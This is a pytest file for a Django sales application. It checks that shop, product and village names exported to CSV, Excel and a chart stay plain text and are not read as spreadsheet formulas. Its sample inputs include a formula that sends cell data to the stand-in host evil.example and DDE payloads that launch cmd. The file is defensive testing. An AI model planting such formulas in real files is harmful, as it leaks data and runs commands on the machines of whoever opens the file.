"""Text typed by farmers, applicants and staff reaches the sales exports and the chart as text: never as a
spreadsheet formula (OWASP CSV injection), never as chart markup; figures stay numbers."""

import csv
import datetime
import io

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from shops.sales.facts import sales_facts_rebuild
from tests.factories import association_member
from tests.shops.sales.conftest import sale
from tests.shops.sales.test_open_data import county_of_five  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", r"$\nope{$龙谷"]
MARCH = {"period": "month", "on": "2026-03-01"}


@pytest.fixture
def hostile_march(world):
    world.tea_shop.name = PAYLOADS[0]
    world.tea_shop.save()
    world.shoots_shop.name = PAYLOADS[4]
    world.shoots_shop.save()
    for product, title in (
        (world.tea, PAYLOADS[1]),
        (world.shoots, PAYLOADS[2]),
        (world.peaches, PAYLOADS[3]),
    ):
        product.title = title
        product.save()
    sale((world.tea, 2), (world.shoots, 1), paid_at="2026-03-05 10:00")
    sale((world.peaches, 1), paid_at="2026-03-20 10:00")
    sales_facts_rebuild(since=datetime.date(2026, 3, 1), until=datetime.date(2026, 3, 31))
    return world


@pytest.fixture
def staff(client):
    client.force_login(association_member())
    return client


def no_cell_is_a_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert cell[0] not in "=+-@\t\r" or cell.lstrip("+-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize("dimension", ["shop", "product"])
def test_the_csv_export_carries_typed_names_as_text_and_figures_as_numbers(staff, hostile_march, dimension):
    response = staff.get(
        reverse("association:sales-export"), {**MARCH, "format": "csv", "dimension": dimension}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:-1]]
    no_cell_is_a_formula(cell for row in rows for cell in row)
    expected = PAYLOADS[0] if dimension == "shop" else PAYLOADS[1]
    assert "'" + expected in names  # shown as typed, with the apostrophe that keeps it text
    assert all(float(row[5]) >= 0 for row in rows[1:])  # net stays a number


@pytest.mark.parametrize("dimension", ["shop", "product"])
def test_the_excel_export_has_no_formula_cell(staff, hostile_march, dimension):
    response = staff.get(
        reverse("association:sales-export"), {**MARCH, "format": "xlsx", "dimension": dimension}
    )

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    no_cell_is_a_formula(c.value for c in cells)
    assert any(isinstance(c.value, float) and c.value > 0 for c in cells)  # figures stay numbers


def test_the_chart_draws_typed_names_as_text(staff, hostile_march):
    cache.clear()
    response = staff.get(reverse("association:sales-chart"), {**MARCH, "dimension": "shop"})

    assert response.status_code == 200
    assert "龙谷" in response.content.decode()  # the name with "$…$" is drawn, as text


def test_the_open_data_csv_carries_typed_village_names_as_text(client, county_of_five):  # noqa: F811
    county_of_five.village_a.name = "=cmd|' /C calc'!A0"
    county_of_five.village_a.save()
    cache.clear()

    response = client.get(reverse("open_data:csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    no_cell_is_a_formula(cell for row in rows for cell in row)
    assert "'=cmd|' /C calc'!A0" in [row[2] for row in rows]
